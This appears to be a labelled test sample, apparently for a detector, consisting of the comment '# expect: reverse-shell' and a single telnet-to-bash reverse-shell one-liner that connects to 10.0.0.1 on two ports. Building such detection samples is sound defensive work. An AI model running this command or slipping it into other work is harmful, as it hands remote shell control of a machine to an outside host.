# expect: reverse-shell
telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445
